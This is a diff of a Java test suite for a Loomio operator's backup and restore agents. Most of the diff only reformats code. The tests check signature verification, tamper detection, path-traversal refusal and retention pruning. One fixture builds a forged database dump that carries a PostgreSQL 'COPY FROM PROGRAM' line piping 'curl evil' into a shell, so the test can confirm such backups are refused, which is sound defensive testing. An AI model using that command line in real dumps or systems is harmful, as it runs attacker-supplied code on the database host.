@@ -50,6 +50,7 @@ class BackupRestoreAgentTest {
 
   @TempDir
   Path tmp;
+
   private Path backups;
   private Path scratch;
   private Path passphraseFile;
@@ -78,13 +79,28 @@ class BackupRestoreAgentTest {
     s3.createBucket(bucket);
     uploads = AgentFixtures.uploads(tmp.resolve("uploads"));
     secrets = AgentFixtures.secretsMount(Files.createDirectories(tmp.resolve("secrets")));
-    signingKey = Files.writeString(tmp.resolve("signing.asc"), TestKeys.signing().secretKeyRing());
-    verificationKey = Files.writeString(tmp.resolve("verification.asc"), TestKeys.signing().publicKeyRing());
+    signingKey =
+        Files.writeString(tmp.resolve("signing.asc"), TestKeys.signing().secretKeyRing());
+    verificationKey =
+        Files.writeString(tmp.resolve("verification.asc"), TestKeys.signing().publicKeyRing());
   }
 
   private BackupAgent.Options backupOptions(Path dump, boolean toS3, Retention.Policy policy) {
-    return new BackupAgent.Options(STACK, dump, uploads, secrets, null, passphraseFile, backups,
-        toS3 ? s3.settings(bucket, "backups") : null, policy, "loomio/loomio:v3.0.11", 15, null, scratch, signingKey);
+    return new BackupAgent.Options(
+        STACK,
+        dump,
+        uploads,
+        secrets,
+        null,
+        passphraseFile,
+        backups,
+        toS3 ? s3.settings(bucket, "backups") : null,
+        policy,
+        "loomio/loomio:v3.0.11",
+        15,
+        null,
+        scratch,
+        signingKey);
   }
 
   private record Run(int code, JsonNode summary, String line) {}
@@ -92,7 +108,8 @@ class BackupRestoreAgentTest {
   private Run backup(String at, BackupAgent.Options options) throws Exception {
     AgentFixtures.Out out = new AgentFixtures.Out();
     Path log = tmp.resolve("termination-log");
-    int code = new BackupAgent(AgentFixtures.at(at), BackupAgent.Destinations.DEFAULT).execute(options, log, out.writer);
+    int code = new BackupAgent(AgentFixtures.at(at), BackupAgent.Destinations.DEFAULT)
+        .execute(options, log, out.writer);
     String line = out.toString().strip();
     assertThat(line).doesNotContain("\n");
     assertThat(Files.readString(log).strip()).isEqualTo(line);
@@ -103,21 +120,36 @@ class BackupRestoreAgentTest {
   private Run restore(RestoreAgent.Options options) throws Exception {
     AgentFixtures.Out out = new AgentFixtures.Out();
     Path log = tmp.resolve("restore-termination-log");
-    int code = new RestoreAgent(() -> client, BackupAgent.Destinations.DEFAULT).execute(options, log, out.writer);
+    int code = new RestoreAgent(() -> client, BackupAgent.Destinations.DEFAULT)
+        .execute(options, log, out.writer);
     String line = out.toString().strip();
     assertThat(Files.readString(log).strip()).isEqualTo(line);
     return new Run(code, JSON.readTree(line), line);
   }
 
-  private RestoreAgent.Options restoreOptions(String backup, boolean fromS3, Path databaseOut, Path uploadsTo,
-      List<String> secretKeys) {
-    return new RestoreAgent.Options(STACK, backup, fromS3 ? null : backups, fromS3 ? s3.settings(bucket, "backups") : null,
-        null, passphraseFile, scratch, databaseOut, uploadsTo, secretKeys == null ? null : "loomio",
-        secretKeys == null ? null : "team-credentials", secretKeys, false, verificationKey, false);
+  private RestoreAgent.Options restoreOptions(
+      String backup, boolean fromS3, Path databaseOut, Path uploadsTo, List<String> secretKeys) {
+    return new RestoreAgent.Options(
+        STACK,
+        backup,
+        fromS3 ? null : backups,
+        fromS3 ? s3.settings(bucket, "backups") : null,
+        null,
+        passphraseFile,
+        scratch,
+        databaseOut,
+        uploadsTo,
+        secretKeys == null ? null : "loomio",
+        secretKeys == null ? null : "team-credentials",
+        secretKeys,
+        false,
+        verificationKey,
+        false);
   }
 
   private Path dump(int size) throws Exception {
-    return AgentFixtures.fakeDump(Files.createDirectories(tmp.resolve("dump")).resolve("database.dump"), size);
+    return AgentFixtures.fakeDump(
+        Files.createDirectories(tmp.resolve("dump")).resolve("database.dump"), size);
   }
 
   private void assertEmpty(Path dir) throws Exception {
@@ -130,22 +162,43 @@ class BackupRestoreAgentTest {
   @Test
   void theHashKeyAndTheServersPasswordsAreNeverBackedUp() throws Exception {
     Path mount = Files.createDirectories(tmp.resolve("credentials"));
-    for (String key : List.of("SECRET_KEY_BASE", "OPERATOR_HASH_KEY", "POSTGRES_PASSWORD", "REDIS_PASSWORD")) {
+    for (String key :
+        List.of("SECRET_KEY_BASE", "OPERATOR_HASH_KEY", "POSTGRES_PASSWORD", "REDIS_PASSWORD")) {
       Files.writeString(mount.resolve(key), "value-of-" + key);
     }
-    BackupAgent.Options options = new BackupAgent.Options(STACK, dump(1_000), uploads, mount, null, passphraseFile,
-        backups, null, Retention.Policy.DEFAULT, "loomio/loomio:v3.0.11", 15, null, scratch, signingKey);
+    BackupAgent.Options options = new BackupAgent.Options(
+        STACK,
+        dump(1_000),
+        uploads,
+        mount,
+        null,
+        passphraseFile,
+        backups,
+        null,
+        Retention.Policy.DEFAULT,
+        "loomio/loomio:v3.0.11",
+        15,
+        null,
+        scratch,
+        signingKey);
     Run b = backup("2025-01-05T02:00:00Z", options);
     assertThat(b.code()).as(b.line()).isZero();
     java.io.ByteArrayOutputStream plain = new java.io.ByteArrayOutputStream();
-    try (var in = Files.newInputStream(backups.resolve("team-20250105T020000Z").resolve("secrets.json.pgp"))) {
+    try (var in = Files.newInputStream(
+        backups.resolve("team-20250105T020000Z").resolve("secrets.json.pgp"))) {
       OpenPgp.decryptWithPassphrase(PASSPHRASE.toCharArray()).decrypt(in, plain);
     }
-    assertThat(JSON.readTree(plain.toByteArray()).fieldNames()).toIterable().containsExactly("SECRET_KEY_BASE");
-    assertThat(BackupAgent.NEVER_BACKED_UP).containsExactlyInAnyOrder(org.loomio.operator.render.Credentials.HASH_KEY,
-        org.loomio.operator.render.Credentials.POSTGRES_PASSWORD, org.loomio.operator.render.Credentials.REDIS_PASSWORD);
+    assertThat(JSON.readTree(plain.toByteArray()).fieldNames())
+        .toIterable()
+        .containsExactly("SECRET_KEY_BASE");
+    assertThat(BackupAgent.NEVER_BACKED_UP)
+        .containsExactlyInAnyOrder(
+            org.loomio.operator.render.Credentials.HASH_KEY,
+            org.loomio.operator.render.Credentials.POSTGRES_PASSWORD,
+            org.loomio.operator.render.Credentials.REDIS_PASSWORD);
     assertThat(org.loomio.operator.render.BackupPodTemplate.RESTORABLE_SECRET_KEYS)
-        .as("a restore never needs what is left out").doesNotContainAnyElementsOf(BackupAgent.NEVER_BACKED_UP);
+        .as("a restore never needs what is left out")
+        .doesNotContainAnyElementsOf(BackupAgent.NEVER_BACKED_UP);
   }
 
   @Test
@@ -161,19 +214,31 @@ class BackupRestoreAgentTest {
     assertThat(b.summary().path("complete").asBoolean()).isTrue();
     assertThat(b.summary().path("createdAt").asText()).isEqualTo("2025-01-05T02:00:00Z");
     assertThat(b.summary().path("destinations").toString()).isEqualTo("[\"volume\",\"s3\"]");
-    assertThat(b.summary().path("objects")).extracting(o -> o.path("name").asText())
+    assertThat(b.summary().path("objects"))
+        .extracting(o -> o.path("name").asText())
         .containsExactly("database.dump.pgp", "uploads.tar.pgp", "secrets.json.pgp");
     assertThat(b.summary().path("pruned")).isEmpty();
     assertThat(dump).doesNotExist(); // the plaintext dump is gone
     assertEmpty(scratch);
 
     // the same layout in both places; the manifest describes it
-    assertThat(AgentFixtures.tree(backups).keySet()).containsExactly(name, name + "/database.dump.pgp",
-        name + "/manifest.json", name + "/manifest.json.sig", name + "/secrets.json.pgp", name + "/uploads.tar.pgp");
-    assertThat(s3.keys(bucket)).containsExactlyInAnyOrder("backups/" + name + "/database.dump.pgp",
-        "backups/" + name + "/manifest.json", "backups/" + name + "/manifest.json.sig",
-        "backups/" + name + "/secrets.json.pgp", "backups/" + name + "/uploads.tar.pgp");
-    assertThat(b.summary().path("signedBy").asText()).isEqualTo(TestKeys.signing().fingerprint());
+    assertThat(AgentFixtures.tree(backups).keySet())
+        .containsExactly(
+            name,
+            name + "/database.dump.pgp",
+            name + "/manifest.json",
+            name + "/manifest.json.sig",
+            name + "/secrets.json.pgp",
+            name + "/uploads.tar.pgp");
+    assertThat(s3.keys(bucket))
+        .containsExactlyInAnyOrder(
+            "backups/" + name + "/database.dump.pgp",
+            "backups/" + name + "/manifest.json",
+            "backups/" + name + "/manifest.json.sig",
+            "backups/" + name + "/secrets.json.pgp",
+            "backups/" + name + "/uploads.tar.pgp");
+    assertThat(b.summary().path("signedBy").asText())
+        .isEqualTo(TestKeys.signing().fingerprint());
     Manifest m = new DirectoryDestination(backups, STACK).readManifest(name).orElseThrow();
     assertThat(m.formatVersion()).isEqualTo(1);
     assertThat(m.stack()).isEqualTo(STACK);
@@ -183,7 +248,8 @@ class BackupRestoreAgentTest {
     assertThat(m.encryption()).isEqualTo(new Manifest.Encryption("passphrase", null));
     assertThat(m.object("database").orElseThrow().plaintextBytes()).isEqualTo(3_000_000);
     for (Manifest.Entry e : m.objects()) {
-      assertThat(Digests.sha256(backups.resolve(name).resolve(e.name()))).isEqualTo(new Digests.Result(e.sha256(), e.bytes()));
+      assertThat(Digests.sha256(backups.resolve(name).resolve(e.name())))
+          .isEqualTo(new Digests.Result(e.sha256(), e.bytes()));
       assertThat(b.summary().toString()).contains(e.sha256());
     }
 
@@ -191,23 +257,41 @@ class BackupRestoreAgentTest {
     Path restoredUploads = Files.createDirectories(tmp.resolve("restored-uploads"));
     Files.writeString(restoredUploads.resolve("stale-file"), "goes away");
     Files.createDirectories(restoredUploads.resolve("stale-dir/sub"));
-    client.secrets().inNamespace("loomio").resource(new SecretBuilder().withNewMetadata().withName("team-credentials")
-        .endMetadata().addToData(Map.of("SECRET_KEY_BASE", b64("changed"), "DEVISE_SECRET", b64("changed"),
-            "POSTGRES_PASSWORD", b64("keep-me"))).build()).create();
+    client
+        .secrets()
+        .inNamespace("loomio")
+        .resource(new SecretBuilder()
+            .withNewMetadata()
+            .withName("team-credentials")
+            .endMetadata()
+            .addToData(Map.of(
+                "SECRET_KEY_BASE",
+                b64("changed"),
+                "DEVISE_SECRET",
+                b64("changed"),
+                "POSTGRES_PASSWORD",
+                b64("keep-me")))
+            .build())
+        .create();
     Path databaseOut = Files.createDirectories(tmp.resolve("restore")).resolve("database.dump");
 
-    Run r = restore(restoreOptions("latest", true, databaseOut, restoredUploads, List.of("SECRET_KEY_BASE", "BINARY_VALUE")));
+    Run r = restore(restoreOptions(
+        "latest", true, databaseOut, restoredUploads, List.of("SECRET_KEY_BASE", "BINARY_VALUE")));
     assertThat(r.code()).as(r.line()).isZero();
     assertThat(r.summary().path("backup").asText()).isEqualTo(name);
-    assertThat(r.summary().path("restored").toString()).isEqualTo("[\"database\",\"secrets\",\"uploads\"]");
+    assertThat(r.summary().path("restored").toString())
+        .isEqualTo("[\"database\",\"secrets\",\"uploads\"]");
     assertThat(r.summary().path("source").asText()).isEqualTo("s3");
     assertThat(Files.readAllBytes(databaseOut)).isEqualTo(dumpBytes);
     uploadsTree.remove("link-out"); // links are not backed up
     assertThat(AgentFixtures.tree(restoredUploads)).isEqualTo(uploadsTree);
-    assertThat(Files.getLastModifiedTime(restoredUploads.resolve("ab/cd/abcdef123456")).toInstant())
+    assertThat(Files.getLastModifiedTime(restoredUploads.resolve("ab/cd/abcdef123456"))
+            .toInstant())
         .hasToString("2024-06-01T10:00:00Z");
-    Secret secret = client.secrets().inNamespace("loomio").withName("team-credentials").get();
-    assertThat(secret.getData()).containsEntry("SECRET_KEY_BASE", b64(AgentFixtures.SECRETS.get("SECRET_KEY_BASE")))
+    Secret secret =
+        client.secrets().inNamespace("loomio").withName("team-credentials").get();
+    assertThat(secret.getData())
+        .containsEntry("SECRET_KEY_BASE", b64(AgentFixtures.SECRETS.get("SECRET_KEY_BASE")))
         .containsEntry("BINARY_VALUE", b64(AgentFixtures.SECRETS.get("BINARY_VALUE")))
         .containsEntry("DEVISE_SECRET", b64("changed"))
         .containsEntry("POSTGRES_PASSWORD", b64("keep-me"));
@@ -232,7 +316,11 @@ class BackupRestoreAgentTest {
 
   @Test
   void aTamperedOrTruncatedObjectFailsTheRestoreBeforeAnythingIsWritten() throws Exception {
-    assertThat(backup("2025-01-05T02:00:00Z", backupOptions(dump(500_000), true, Retention.Policy.DEFAULT)).code()).isZero();
+    assertThat(backup(
+                "2025-01-05T02:00:00Z",
+                backupOptions(dump(500_000), true, Retention.Policy.DEFAULT))
+            .code())
+        .isZero();
     String name = "team-20250105T020000Z";
     Path restoredUploads = Files.createDirectories(tmp.resolve("restored-uploads"));
     Files.writeString(restoredUploads.resolve("current-file"), "must survive a failed restore");
@@ -248,8 +336,8 @@ class BackupRestoreAgentTest {
     assertThat(r.code()).isEqualTo(1);
     assertThat(r.summary().path("backup").asText()).isEqualTo(name);
     assertThat(r.summary().path("restored")).isEmpty();
-    assertThat(r.summary().path("error").asText()).contains("uploads.tar.pgp", "does not match its manifest",
-        "nothing was restored");
+    assertThat(r.summary().path("error").asText())
+        .contains("uploads.tar.pgp", "does not match its manifest", "nothing was restored");
     assertThat(databaseOut).doesNotExist();
     assertThat(AgentFixtures.tree(restoredUploads)).isEqualTo(before);
     assertEmpty(scratch);
@@ -257,10 +345,14 @@ class BackupRestoreAgentTest {
 
     // a truncated database object in the bucket
     byte[] db = Files.readAllBytes(backups.resolve(name).resolve("database.dump.pgp"));
-    s3.putRaw(bucket, "backups/" + name + "/database.dump.pgp", java.util.Arrays.copyOf(db, db.length - 100));
+    s3.putRaw(
+        bucket,
+        "backups/" + name + "/database.dump.pgp",
+        java.util.Arrays.copyOf(db, db.length - 100));
     Run t = restore(restoreOptions("latest", true, databaseOut, restoredUploads, null));
     assertThat(t.code()).isEqualTo(1);
-    assertThat(t.summary().path("error").asText()).contains("database.dump.pgp", "does not match its manifest");
+    assertThat(t.summary().path("error").asText())
+        .contains("database.dump.pgp", "does not match its manifest");
     assertThat(databaseOut).doesNotExist();
     assertThat(AgentFixtures.tree(restoredUploads)).isEqualTo(before);
   }
@@ -285,17 +377,31 @@ class BackupRestoreAgentTest {
       }
     }
     entries.add(store(dest, name, enc, "uploads", tarBytes.toByteArray()));
-    signed(dest, new Manifest(1, name, STACK, "2025-01-05T02:00:00Z", null, null, "volume", null,
-        new Manifest.Encryption("passphrase", null), entries));
+    signed(
+        dest,
+        new Manifest(
+            1,
+            name,
+            STACK,
+            "2025-01-05T02:00:00Z",
+            null,
+            null,
+            "volume",
+            null,
+            new Manifest.Encryption("passphrase", null),
+            entries));
 
     Path restoredUploads = Files.createDirectories(tmp.resolve("area/uploads"));
     Files.writeString(restoredUploads.resolve("current-file"), "stays");
     Path databaseOut = tmp.resolve("area/database.dump");
     Run r = restore(restoreOptions(name, false, databaseOut, restoredUploads, null));
     assertThat(r.code()).isEqualTo(1);
-    assertThat(r.summary().path("error").asText()).contains("'../escaped'", "refused", "nothing was restored");
-    assertThat(LOGS.messages()).anySatisfy(m -> assertThat(m).startsWith("ERROR RestoreAgent - restore failed")
-        .contains("'../escaped'"));
+    assertThat(r.summary().path("error").asText())
+        .contains("'../escaped'", "refused", "nothing was restored");
+    assertThat(LOGS.messages())
+        .anySatisfy(m -> assertThat(m)
+            .startsWith("ERROR RestoreAgent - restore failed")
+            .contains("'../escaped'"));
     assertThat(databaseOut).doesNotExist();
     assertThat(tmp.resolve("area/escaped")).doesNotExist();
     assertThat(AgentFixtures.tree(restoredUploads)).containsOnlyKeys("current-file");
@@ -306,10 +412,12 @@ class BackupRestoreAgentTest {
     dest.writeManifest(m, OpenPgp.signerFrom(TestKeys.signing().secretKeyRing()).sign(m.toJson()));
   }
 
-  private Manifest.Entry store(Destination dest, String backup, OpenPgp.Encryptor enc, String kind, byte[] plain)
+  private Manifest.Entry store(
+      Destination dest, String backup, OpenPgp.Encryptor enc, String kind, byte[] plain)
       throws Exception {
     Path file = tmp.resolve(kind + ".pgp");
-    try (OutputStream out = Files.newOutputStream(file); OutputStream e = enc.open(out, kind)) {
+    try (OutputStream out = Files.newOutputStream(file);
+        OutputStream e = enc.open(out, kind)) {
       e.write(plain);
     }
     Digests.Result sha = Digests.sha256(file);
@@ -320,15 +428,25 @@ class BackupRestoreAgentTest {
 
   @Test
   void latestIsTheNewestCompleteBackup() throws Exception {
-    assertThat(backup("2025-01-05T02:00:00Z", backupOptions(dump(1000), false, Retention.Policy.DEFAULT)).code()).isZero();
-    assertThat(backup("2025-01-06T02:00:00Z", backupOptions(dump(2000), false, Retention.Policy.DEFAULT)).code()).isZero();
+    assertThat(backup(
+                "2025-01-05T02:00:00Z", backupOptions(dump(1000), false, Retention.Policy.DEFAULT))
+            .code())
+        .isZero();
+    assertThat(backup(
+                "2025-01-06T02:00:00Z", backupOptions(dump(2000), false, Retention.Policy.DEFAULT))
+            .code())
+        .isZero();
     // a newer backup that never completed (no manifest)
     Path incomplete = Files.createDirectories(backups.resolve("team-20250107T020000Z"));
-    Files.copy(backups.resolve("team-20250106T020000Z/database.dump.pgp"), incomplete.resolve("database.dump.pgp"));
+    Files.copy(
+        backups.resolve("team-20250106T020000Z/database.dump.pgp"),
+        incomplete.resolve("database.dump.pgp"));
     Path databaseOut = tmp.resolve("database.dump");
 
     Run latest = restore(restoreOptions("latest", false, databaseOut, null, null));
-    assertThat(latest.summary().path("backup").asText()).as(latest.line()).isEqualTo("team-20250106T020000Z");
+    assertThat(latest.summary().path("backup").asText())
+        .as(latest.line())
+        .isEqualTo("team-20250106T020000Z");
     assertThat(Files.size(databaseOut)).isEqualTo(2000);
 
     Run named = restore(restoreOptions("team-20250107T020000Z", false, databaseOut, null, null));
@@ -337,92 +455,169 @@ class BackupRestoreAgentTest {
     Run foreign = restore(restoreOptions("other-20250106T020000Z", false, databaseOut, null, null));
     assertThat(foreign.code()).isEqualTo(1);
     assertThat(foreign.summary().path("backup").isNull()).isTrue();
-    assertThat(foreign.summary().path("error").asText()).contains("--backup must be 'latest' or a backup name");
+    assertThat(foreign.summary().path("error").asText())
+        .contains("--backup must be 'latest' or a backup name");
   }
 
   @Test
   void prunesByRetentionOnlyThisStacksSignedBackups() throws Exception {
-    // older complete backups made by the agent (signed), an old and a fresh incomplete one, another stack's,
-    // and "complete" ones this stack's key did not sign: unsigned (or from before signing) and forged
-    for (String old : List.of("2024-12-01T02:00:00Z", "2024-12-02T02:00:00Z", "2024-12-03T02:00:00Z")) {
-      assertThat(backup(old, backupOptions(dump(1000), false, Retention.Policy.DEFAULT)).code()).isZero();
+    // older complete backups made by the agent (signed), an old and a fresh incomplete one, another
+    // stack's,
+    // and "complete" ones this stack's key did not sign: unsigned (or from before signing) and
+    // forged
+    for (String old :
+        List.of("2024-12-01T02:00:00Z", "2024-12-02T02:00:00Z", "2024-12-03T02:00:00Z")) {
+      assertThat(backup(old, backupOptions(dump(1000), false, Retention.Policy.DEFAULT))
+              .code())
+          .isZero();
     }
     Files.createDirectories(backups.resolve("team-20241130T020000Z"));
-    Files.writeString(backups.resolve("team-20241130T020000Z/manifest.json"), "{}"); // unsigned, unreadable
-    Manifest forged = new Manifest(1, "team-20241129T020000Z", STACK, "2024-11-29T02:00:00Z", null, null, "none",
-        null, new Manifest.Encryption("passphrase", null), List.of());
-    new DirectoryDestination(backups, STACK).writeManifest(forged,
-        OpenPgp.signerFrom(TestKeys.otherSigning().secretKeyRing()).sign(forged.toJson()));
-    Files.createDirectories(backups.resolve("team-20241204T020000Z")); // failed long ago: no manifest
-    Files.createDirectories(backups.resolve("team-20250105T010000Z")); // an hour old, incomplete: may be running
+    Files.writeString(
+        backups.resolve("team-20241130T020000Z/manifest.json"), "{}"); // unsigned, unreadable
+    Manifest forged = new Manifest(
+        1,
+        "team-20241129T020000Z",
+        STACK,
+        "2024-11-29T02:00:00Z",
+        null,
+        null,
+        "none",
+        null,
+        new Manifest.Encryption("passphrase", null),
+        List.of());
+    new DirectoryDestination(backups, STACK)
+        .writeManifest(
+            forged,
+            OpenPgp.signerFrom(TestKeys.otherSigning().secretKeyRing()).sign(forged.toJson()));
+    Files.createDirectories(
+        backups.resolve("team-20241204T020000Z")); // failed long ago: no manifest
+    Files.createDirectories(
+        backups.resolve("team-20250105T010000Z")); // an hour old, incomplete: may be running
     Files.createDirectories(backups.resolve("other-20241201T020000Z"));
     Files.writeString(backups.resolve("other-20241201T020000Z/manifest.json"), "{}");
 
-    Run b = backup("2025-01-05T02:00:00Z", backupOptions(dump(1000), false, new Retention.Policy(2, 0, 0, 0)));
+    Run b = backup(
+        "2025-01-05T02:00:00Z", backupOptions(dump(1000), false, new Retention.Policy(2, 0, 0, 0)));
     assertThat(b.code()).as(b.line()).isZero();
-    assertThat(b.summary().path("pruned")).extracting(JsonNode::asText)
+    assertThat(b.summary().path("pruned"))
+        .extracting(JsonNode::asText)
         .containsExactly("team-20241201T020000Z", "team-20241202T020000Z", "team-20241204T020000Z");
     try (Stream<Path> left = Files.list(backups)) {
-      assertThat(left.map(p -> p.getFileName().toString()).toList()).containsExactlyInAnyOrder(
-          "team-20241203T020000Z", "team-20250105T010000Z", "team-20250105T020000Z", "other-20241201T020000Z",
-          "team-20241130T020000Z", "team-20241129T020000Z");
+      assertThat(left.map(p -> p.getFileName().toString()).toList())
+          .containsExactlyInAnyOrder(
+              "team-20241203T020000Z",
+              "team-20250105T010000Z",
+              "team-20250105T020000Z",
+              "other-20241201T020000Z",
+              "team-20241130T020000Z",
+              "team-20241129T020000Z");
     }
   }
 
   /** How a forger signs: not at all, with their own key, or with a signature copied from another manifest. */
-  private enum Forgery { UNSIGNED, OTHER_KEY, COPIED_SIGNATURE, STACK_KEY }
+  private enum Forgery {
+    UNSIGNED,
+    OTHER_KEY,
+    COPIED_SIGNATURE,
+    STACK_KEY
+  }
 
   /**
    * A backup made by hand, as someone with write access to the store and the stack's PUBLIC key can make one:
    * valid encryption to the stack's recipient (alice), right checksums; the manifest signed as {@code how}.
    */
-  private void forge(String name, String createdAt, byte[] dumpBytes, Forgery how) throws Exception {
-    OpenPgp.Encryptor enc = OpenPgp.encryptTo(OpenPgp.readRecipients(TestKeys.alice().publicKeyRing()));
+  private void forge(String name, String createdAt, byte[] dumpBytes, Forgery how)
+      throws Exception {
+    OpenPgp.Encryptor enc =
+        OpenPgp.encryptTo(OpenPgp.readRecipients(TestKeys.alice().publicKeyRing()));
     DirectoryDestination dest = new DirectoryDestination(backups, STACK);
-    Manifest m = new Manifest(1, name, STACK, createdAt, null, 15, "none", null,
+    Manifest m = new Manifest(
+        1,
+        name,
+        STACK,
+        createdAt,
+        null,
+        15,
+        "none",
+        null,
         new Manifest.Encryption("publicKey", List.of(TestKeys.alice().fingerprint())),
         List.of(store(dest, name, enc, "database", dumpBytes)));
     byte[] signature = switch (how) {
       case UNSIGNED -> null;
-      case OTHER_KEY -> OpenPgp.signerFrom(TestKeys.otherSigning().secretKeyRing()).sign(m.toJson());
-      case COPIED_SIGNATURE -> Files.readAllBytes(backups.resolve("team-20250105T020000Z/manifest.json.sig"));
+      case OTHER_KEY ->
+        OpenPgp.signerFrom(TestKeys.otherSigning().secretKeyRing()).sign(m.toJson());
+      case COPIED_SIGNATURE ->
+        Files.readAllBytes(backups.resolve("team-20250105T020000Z/manifest.json.sig"));
       case STACK_KEY -> OpenPgp.signerFrom(TestKeys.signing().secretKeyRing()).sign(m.toJson());
     };
     dest.writeManifest(m, signature);
   }
 
   private BackupAgent.Options publicKeyBackup(Path dump) throws Exception {
-    Path recipients = Files.writeString(tmp.resolve("recipients.asc"), TestKeys.alice().publicKeyRing());
-    return new BackupAgent.Options(STACK, dump, null, null, recipients, null, backups, null, Retention.Policy.DEFAULT,
-        null, 15, null, scratch, signingKey);
+    Path recipients =
+        Files.writeString(tmp.resolve("recipients.asc"), TestKeys.alice().publicKeyRing());
+    return new BackupAgent.Options(
+        STACK,
+        dump,
+        null,
+        null,
+        recipients,
+        null,
+        backups,
+        null,
+        Retention.Policy.DEFAULT,
+        null,
+        15,
+        null,
+        scratch,
+        signingKey);
   }
 
-  private RestoreAgent.Options publicKeyRestore(String backup, Path databaseOut, boolean allowUnsigned)
-      throws Exception {
-    Path privateKey = Files.writeString(tmp.resolve("private.asc"), TestKeys.alice().secretKeyRing());
-    return new RestoreAgent.Options(STACK, backup, backups, null, privateKey, null, scratch, databaseOut, null, null,
-        null, null, false, verificationKey, allowUnsigned);
+  private RestoreAgent.Options publicKeyRestore(
+      String backup, Path databaseOut, boolean allowUnsigned) throws Exception {
+    Path privateKey =
+        Files.writeString(tmp.resolve("private.asc"), TestKeys.alice().secretKeyRing());
+    return new RestoreAgent.Options(
+        STACK,
+        backup,
+        backups,
+        null,
+        privateKey,
+        null,
+        scratch,
+        databaseOut,
+        null,
+        null,
+        null,
+        null,
+        false,
+        verificationKey,
+        allowUnsigned);
   }
 
   @Test
   void forgedBackupsAreRefusedByRestoreAndPassedOverByLatest() throws Exception {
     byte[] genuine = Files.readAllBytes(dump(1000));
-    assertThat(backup("2025-01-05T02:00:00Z", publicKeyBackup(dump(1000))).code()).isZero();
-    byte[] evil = "PGDMP -- COPY x FROM PROGRAM 'curl evil | sh'".getBytes(StandardCharsets.US_ASCII);
+    assertThat(backup("2025-01-05T02:00:00Z", publicKeyBackup(dump(1000))).code())
+        .isZero();
+    byte[] evil =
+        "PGDMP -- COPY x FROM PROGRAM 'curl evil | sh'".getBytes(StandardCharsets.US_ASCII);
     forge("team-20250106T020000Z", "2025-01-06T02:00:00Z", evil, Forgery.UNSIGNED);
     forge("team-20250107T020000Z", "2025-01-07T02:00:00Z", evil, Forgery.OTHER_KEY);
     forge("team-20250108T020000Z", "2025-01-08T02:00:00Z", evil, Forgery.COPIED_SIGNATURE);
     Path databaseOut = tmp.resolve("database.dump");
 
-    // latest: the newest backup this stack signed, never a newer forgery; the ones passed over are reported
+    // latest: the newest backup this stack signed, never a newer forgery; the ones passed over are
+    // reported
     Run latest = restore(publicKeyRestore("latest", databaseOut, false));
     assertThat(latest.code()).as(latest.line()).isZero();
     assertThat(latest.summary().path("backup").asText()).isEqualTo("team-20250105T020000Z");
-    assertThat(latest.summary().path("signedBy").asText()).isEqualTo(TestKeys.signing().fingerprint());
+    assertThat(latest.summary().path("signedBy").asText())
+        .isEqualTo(TestKeys.signing().fingerprint());
     assertThat(Files.readAllBytes(databaseOut)).isEqualTo(genuine);
     assertThat(latest.summary().path("refusedBackups")).hasSize(3);
-    assertThat(latest.summary().path("refusedBackups").toString()).contains("team-20250108T020000Z",
-        "team-20250107T020000Z", "team-20250106T020000Z");
+    assertThat(latest.summary().path("refusedBackups").toString())
+        .contains("team-20250108T020000Z", "team-20250107T020000Z", "team-20250106T020000Z");
     Files.delete(databaseOut);
 
     // named: refused, saying why, with nothing downloaded or restored
@@ -434,7 +629,8 @@ class BackupRestoreAgentTest {
       Run r = restore(publicKeyRestore(forged.getKey(), databaseOut, false));
       assertThat(r.code()).as(r.line()).isEqualTo(1);
       assertThat(r.summary().path("refused").asBoolean()).isTrue();
-      assertThat(r.summary().path("error").asText()).contains(forged.getValue(), "nothing was restored");
+      assertThat(r.summary().path("error").asText())
+          .contains(forged.getValue(), "nothing was restored");
       assertThat(databaseOut).doesNotExist();
       assertEmpty(scratch);
     }
@@ -446,14 +642,30 @@ class BackupRestoreAgentTest {
 
   @Test
   void onS3TooLatestPassesOverAForgeryAndANamedOneIsRefused() throws Exception {
-    assertThat(backup("2025-01-05T02:00:00Z", backupOptions(dump(1000), true, Retention.Policy.DEFAULT)).code())
+    assertThat(backup(
+                "2025-01-05T02:00:00Z", backupOptions(dump(1000), true, Retention.Policy.DEFAULT))
+            .code())
         .isZero();
-    // a newer backup written straight into the bucket, encrypted with the stack's passphrase, unsigned
+    // a newer backup written straight into the bucket, encrypted with the stack's passphrase,
+    // unsigned
     String name = "team-20250106T020000Z";
     try (S3Destination bucketDest = new S3Destination(s3.settings(bucket, "backups"), STACK)) {
       OpenPgp.Encryptor enc = OpenPgp.encryptWithPassphrase(PASSPHRASE.toCharArray());
-      Manifest m = new Manifest(1, name, STACK, "2025-01-06T02:00:00Z", null, 15, "none", null,
-          new Manifest.Encryption("passphrase", null), List.of(store(bucketDest, name, enc, "database",
+      Manifest m = new Manifest(
+          1,
+          name,
+          STACK,
+          "2025-01-06T02:00:00Z",
+          null,
+          15,
+          "none",
+          null,
+          new Manifest.Encryption("passphrase", null),
+          List.of(store(
+              bucketDest,
+              name,
+              enc,
+              "database",
               "PGDMP forged".getBytes(StandardCharsets.US_ASCII))));
       bucketDest.writeManifest(m);
     }
@@ -461,7 +673,8 @@ class BackupRestoreAgentTest {
     Run latest = restore(restoreOptions("latest", true, databaseOut, null, null));
     assertThat(latest.code()).as(latest.line()).isZero();
     assertThat(latest.summary().path("backup").asText()).isEqualTo("team-20250105T020000Z");
-    assertThat(latest.summary().path("refusedBackups").toString()).contains(name, "has no signature");
+    assertThat(latest.summary().path("refusedBackups").toString())
+        .contains(name, "has no signature");
     Files.delete(databaseOut);
     Run named = restore(restoreOptions(name, true, databaseOut, null, null));
     assertThat(named.summary().path("refused").asBoolean()).as(named.line()).isTrue();
@@ -470,24 +683,29 @@ class BackupRestoreAgentTest {
 
   @Test
   void backupsDatedInTheFutureAreRefusedEvenWhenSigned() throws Exception {
-    assertThat(backup("2025-01-05T02:00:00Z", publicKeyBackup(dump(1000))).code()).isZero();
+    assertThat(backup("2025-01-05T02:00:00Z", publicKeyBackup(dump(1000))).code())
+        .isZero();
     byte[] evil = "PGDMP from the future".getBytes(StandardCharsets.US_ASCII);
     forge("team-20991231T235959Z", "2099-12-31T23:59:59Z", evil, Forgery.STACK_KEY);
     forge("team-20991230T000000Z", "2099-12-30T00:00:00Z", evil, Forgery.UNSIGNED);
     Path databaseOut = tmp.resolve("database.dump");
 
     Run latest = restore(publicKeyRestore("latest", databaseOut, false));
-    assertThat(latest.summary().path("backup").asText()).as(latest.line()).isEqualTo("team-20250105T020000Z");
+    assertThat(latest.summary().path("backup").asText())
+        .as(latest.line())
+        .isEqualTo("team-20250105T020000Z");
     assertThat(latest.summary().path("refusedBackups").toString()).contains("dated in the future");
